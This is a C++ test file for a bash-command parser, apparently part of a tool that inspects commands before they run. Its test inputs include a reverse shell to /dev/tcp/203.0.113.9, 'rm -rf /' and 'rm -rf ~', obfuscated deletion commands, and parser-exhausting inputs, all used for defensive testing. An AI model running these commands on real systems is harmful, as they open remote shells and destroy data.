#include "engine/shell.h"

#include <algorithm>
#include <string>

#include "tests/catch.h"

using namespace escrow::engine;

namespace {

std::string context_mark(CommandContext context) {
  return context == CommandContext::top ? "" : std::string(name_of(context)) + ": ";
}

/// One command a line: context, assignments, words in `<>` (opaque in `?…?`), redirects, and what it is fed by.
std::string dump(const ShellScript& script) {
  std::string out;
  for (const SimpleCommand& command : script.commands) {
    out += context_mark(command.context);
    for (const Assignment& a : command.assignments) out += a.name + "=" + a.value.text + " ";
    for (const Word& word : command.argv) out += word.opaque ? "?" + word.text + "? " : "<" + word.text + "> ";
    for (const Redirect& r : command.redirects) {
      out += std::string(name_of(r.kind)) + (r.fd >= 0 ? std::to_string(r.fd) : "") + "(" + r.target.text + ") ";
    }
    if (command.piped_from != SimpleCommand::npos) out += "from " + std::to_string(command.piped_from) + " ";
    if (command.parent != SimpleCommand::npos) out += "in " + std::to_string(command.parent) + " ";
    while (out.ends_with(' ')) out.pop_back();
    out += '\n';
  }
  return out;
}

void check_shell(std::string_view text, std::string_view expected) {
  INFO(text);
  const ShellScript script = parse_shell(text);
  CHECK(dump(script) == expected);
  CHECK(script.state == ParseState::ok);
}

}  // namespace

TEST_CASE("a line is every simple command in it") {
  check_shell("ls -la src", "<ls> <-la> <src>\n");
  check_shell("a; b && c || d & e", "<a>\n<b>\n<c>\n<d>\n<e>\n");
  check_shell("echo done # tidy\nrm -rf ~", "<echo> <done>\n<rm> <-rf> <~>\n");
  check_shell("! a", "<a>\n");
  check_shell("", "");
  check_shell("# nothing but a comment", "");
}

TEST_CASE("a pipe tells each stage who feeds it") {
  check_shell("a | b | c", "pipe: <a>\npipe: <b> from 0\npipe: <c> from 1\n");
  check_shell("a |& b", "pipe: <a>\npipe: <b> from 0\n");
  const ShellScript script = parse_shell("(a; b) | c");
  REQUIRE(script.commands.size() == 3);
  CHECK(script.commands[2].piped_from_first == 0);
  CHECK(script.commands[2].piped_from == 1);
}

TEST_CASE("compound commands hold their parts") {
  check_shell("if a; then b; elif c; then d; else e; fi",
              "condition: <a>\ncondition: <b>\ncondition: <c>\ncondition: <d>\ncondition: <e>\n");
  check_shell("while a; do b; done", "loop: <a>\nloop: <b>\n");
  check_shell("for f in x y; do b $f; done", "loop: <b> <x> <y>\n");
  check_shell("case $x in a) b;; *) c;; esac", "condition: <b>\ncondition: <c>\n");
  check_shell("f() { a; }; f", "function: <a>\n<f>\nwrapped: <a> in 1\n");
  check_shell("f() { a \"$1\" $2; }; f x y", "function: <a> ?$1? ?$2?\n<f> <x> <y>\nwrapped: <a> <x> <y> in 1\n");
  check_shell("f() { f; }; f", "function: <f>\nwrapped: <f> in 0\n<f>\nwrapped: <f> in 2\n");
  check_shell("(a; b)", "subshell: <a>\nsubshell: <b>\n");
  check_shell("{ a; b; }", "<a>\n<b>\n");
  CHECK(parse_shell("f() { a; }").functions == std::vector<std::string>{"f"});
}

TEST_CASE("attack: functions that call functions without end, or at length, are not read for ever") {
  std::string doubling = "f0() { ls \"$1\"; }; ";
  for (int i = 1; i < 40; ++i) {
    const std::string before = "f" + std::to_string(i - 1) + " $1; ";
    doubling += "f" + std::to_string(i) + "() { " + before + before + "}; ";
  }
  const ShellScript deep = parse_shell(doubling + "f39 /");
  CHECK(deep.state != ParseState::ok);
  CHECK(deep.commands.size() < 5000);
  std::string again = "f() { : " + std::string(20'000, 'x') + "; }; ";
  for (int i = 0; i < 100; ++i) again += "f; ";
  CHECK(parse_shell(again).state != ParseState::ok);
}

TEST_CASE("substitutions run inside the command that holds them") {
  check_shell("ls $(a b)", "<ls> ?$(a b)?\nsubstitution: <a> <b> in 0\n");
  check_shell("ls \"`a`\"", "<ls> ?`a`?\nsubstitution: <a> in 0\n");
  check_shell("x=$(a)", "x=$(a)\nsubstitution: <a> in 0\n");
  check_shell("diff <(a) <(b)",
              "<diff> ?<(a)? ?<(b)?\nprocess_substitution: <a> in 0\nprocess_substitution: <b> in 0\n");
  check_shell("echo \"$(a \"$(b)\")\"",
              "<echo> ?$(a \"$(b)\")?\nsubstitution: <a> ?$(b)? in 0\nsubstitution: <b> in 1\n");
  check_shell("echo ${x:-$(a)}", "<echo> ?${x:-$(a)}?\nsubstitution: <a> in 0\n");
  check_shell("echo $((1+$(a)))", "<echo> ?$((1+$(a)))?\nsubstitution: <a> in 0\n");
  check_shell("[ -f $(a) ]", "<[> <-f>\nsubstitution: <a> in 0\n");
  check_shell("a > $(b)", "<a> write($(b))\nsubstitution: <b> in 0\n");
}

TEST_CASE("redirects carry their descriptor and target, and swallow no arguments") {
  check_shell("a > f", "<a> write(f)\n");
  check_shell("a >> f 2>&1", "<a> append(f) duplicate2(1)\n");
  check_shell("cat > f x y", "<cat> <x> <y> write(f)\n");
  check_shell("bash -i >& /dev/tcp/203.0.113.9/4 0>&1", "<bash> <-i> write(/dev/tcp/203.0.113.9/4) duplicate0(1)\n");
  check_shell("2>/dev/null ls", "<ls> write2(/dev/null)\n");
  check_shell("> f", "write(f)\n");
  check_shell("a &> f", "<a> write(f)\n");
  check_shell("a < f", "<a> read(f)\n");
  check_shell("{ a; b; } > f", "<a> write(f)\n<b> write(f)\n");
  check_shell("a | b > f", "pipe: <a>\npipe: <b> write(f) from 0\n");
}

TEST_CASE("a here-document is data for cat and code for a shell") {
  check_shell("cat <<'E'\nrm -rf /\nE\n", "<cat> here_doc(rm -rf /\n)\n");
  check_shell("sh <<'E'\nrm x\nE\n", "<sh> here_doc(rm x\n)\nnested_shell: <rm> <x> in 0\n");
  check_shell("bash <<< 'a; b'", "<bash> here_string(a; b)\nnested_shell: <a> in 0\nnested_shell: <b> in 0\n");
  check_shell("cat <<E\n$(a)\nE\n", "<cat> here_doc($(a)\n)\nsubstitution: <a> in 0\n");
  check_shell("cat <<'E'\n$(a)\nE\n", "<cat> here_doc($(a)\n)\n");
  check_shell("cat <<-E\n\tx\n\tE\n", "<cat> here_doc(x\n)\n");
  check_shell("cat <<'E' | sh\nrm x\nE\n", "<cat> here_doc(rm x\n)\npipe: <sh> from 0\nnested_shell: <rm> <x> in 1\n");
  check_shell("cat <<E > out && next\nb\nE\n", "<cat> here_doc(b\n) write(out)\n<next>\n");
  check_shell("cat <<A <<B\n1\nA\n2\nB\n", "<cat> here_doc(1\n) here_doc(2\n)\n");
  check_shell("make -f - <<X\nall:\nX\n", "<make> <-f> <-> here_doc(all:\n)\n");
}

TEST_CASE("text that a shell runs is read as the commands it is") {
  check_shell("bash -c 'a; b'", "<bash> <-c> <a; b>\nnested_shell: <a> in 0\nnested_shell: <b> in 0\n");
  check_shell("bash -lc \"a && b\"", "<bash> <-lc> <a && b>\nnested_shell: <a> in 0\nnested_shell: <b> in 0\n");
  check_shell("bash -euo pipefail -c a", "<bash> <-euo> <pipefail> <-c> <a>\nnested_shell: <a> in 0\n");
  check_shell("eval a b", "<eval> <a> <b>\nnested_shell: <a> <b> in 0\n");
  check_shell("echo 'rm x' | sh", "pipe: <echo> <rm x>\npipe: <sh> from 0\nnested_shell: <rm> <x> in 1\n");
  check_shell("trap 'a' EXIT", "<trap> <a> <EXIT>\nnested_shell: <a> in 0\n");
}

TEST_CASE("a program behind another is a command of its own") {
  check_shell("timeout 5 a b", "<timeout> <5> <a> <b>\nwrapped: <a> <b> in 0\n");
  check_shell("env -i X=1 a", "<env> <-i> <X=1> <a>\nwrapped: X=1 <a> in 0\n");
  check_shell("sudo -u root nice -n 5 a",
              "<sudo> <-u> <root> <nice> <-n> <5> <a>\nwrapped: <nice> <-n> <5> <a> in 0\nwrapped: <a> in 1\n");
  check_shell("find . -exec a {} \\;", "<find> <.> <-exec> <a> <{}> <;>\nwrapped: <a> <{}> in 0\n");
  check_shell("echo / | xargs a", "pipe: <echo> </>\npipe: <xargs> <a> from 0\nwrapped: <a> </> from 0 in 1\n");
  check_shell("busybox a", "<busybox> <a>\nwrapped: <a> in 0\n");
  check_shell("command -v a", "<command> <-v> <a>\n");
  check_shell("git submodule foreach 'a; b'",
              "<git> <submodule> <foreach> <a; b>\nnested_shell: <a> in 0\nnested_shell: <b> in 0\n");
}

TEST_CASE("words that touch, split or vanish in the grammar are read as bash reads them") {
  check_shell("{rm,-rf,/}", "<rm> <-rf> </>\n");
  check_shell("rm${IFS}-rf${IFS}/", "<rm> <-rf> </>\n");
  check_shell("rm -r \\\n -f \\\n /", "<rm> <-r> <-f> </>\n");
  check_shell("ls = b == c", "<ls> <=> <b> <==> <c>\n");
  check_shell("make FOO=bar X=", "<make> <FOO=bar> <X=>\n");
}

TEST_CASE("a span names the bytes of the outermost text") {
  const std::string text = "true; true; rm -rf x";
  const ShellScript script = parse_shell(text);
  REQUIRE(script.commands.size() == 3);
  CHECK(text.substr(script.commands[2].span.begin, script.commands[2].span.end - script.commands[2].span.begin) ==
        "rm -rf x");
  const std::string nested = "bash -c 'rm x'";
  const ShellScript inner = parse_shell(nested);
  REQUIRE(inner.commands.size() == 2);
  CHECK(nested.substr(inner.commands[1].span.begin, inner.commands[1].span.end - inner.commands[1].span.begin) ==
        "'rm x'");
}

TEST_CASE("text that is not whole is an error, and what was understood stays") {
  const ShellScript quote = parse_shell("rm -rf x; echo \"unterminated");
  CHECK(quote.state == ParseState::error);
  REQUIRE(!quote.commands.empty());
  CHECK(quote.commands[0].argv[0].text == "rm");
  CHECK(parse_shell("if true; then").state != ParseState::ok);
  CHECK(parse_shell("echo $(ls").state != ParseState::ok);
  CHECK(parse_shell("cat <<E\nnever closed").commands.size() == 1);
}

TEST_CASE("hostile nesting and size end in an answer") {
  std::string deep;
  for (int i = 0; i < 5000; ++i) deep += "$(";
  CHECK(parse_shell("echo " + deep).state != ParseState::ok);
  std::string parens(20000, '(');
  CHECK(parse_shell(parens).state != ParseState::ok);
  std::string braces;
  for (int i = 0; i < 40; ++i) braces += "{a,b}";
  CHECK(parse_shell("echo " + braces).commands[0].argv.size() <= 513);
  std::string evals;
  for (int i = 0; i < 40; ++i) evals += "eval ";
  CHECK(parse_shell(evals + "true").state != ParseState::ok);
  CHECK(parse_shell(std::string(2'000'000, 'a')).state == ParseState::error);
}

TEST_CASE("the sixty-first command is read like the first") {
  std::string text;
  for (int i = 0; i < 60; ++i) text += "true; ";
  const ShellScript script = parse_shell(text + "rm -rf ~");
  REQUIRE(script.commands.size() == 61);
  CHECK(script.commands[60].argv[2].tilde);
}

TEST_CASE("attack: a text of brackets alone breaks no parser") {
  for (const char* bracket : {"(", "{ ", "$(", "<(", "((", "<<A ", "case "}) {
    std::string text;
    while (text.size() < 120'000) text += bracket;
    INFO(bracket);
    CHECK(parse_shell(text).state != ParseState::ok);
  }
}

TEST_CASE("a long here-document is read like a short one") {
  const std::string body(100'000, 'x');
  const ShellScript script = parse_shell("cat > f <<'E'\n" + body + "\nE\nrm -rf y");
  REQUIRE(script.commands.size() == 2);
  CHECK(script.state == ParseState::ok);
  CHECK(script.commands[0].redirects.size() == 2);
  CHECK(script.commands[1].argv[0].text == "rm");
}

TEST_CASE("brackets and braces as words stay words") {
  check_shell("a [ } b", "<a> <[> <}> <b>\n");
  check_shell("a ] {m,n}", "<a> <]> <m> <n>\n");
  check_shell("a { b", "<a> <{> <b>\n");
}

TEST_CASE("attack: a short text that would expand without end is cut short and said so") {
  std::string ranges;
  for (int i = 0; i < 20'000; ++i) ranges += " {1..512}";
  CHECK(parse_shell("echo" + ranges).state != ParseState::ok);
  std::string loops = "for a in 1 2 3 4 5 6 7 8 9 10; do echo";
  for (int i = 0; i < 20'000; ++i) loops += " $a";
  CHECK(parse_shell(loops + "; done").state != ParseState::ok);
}
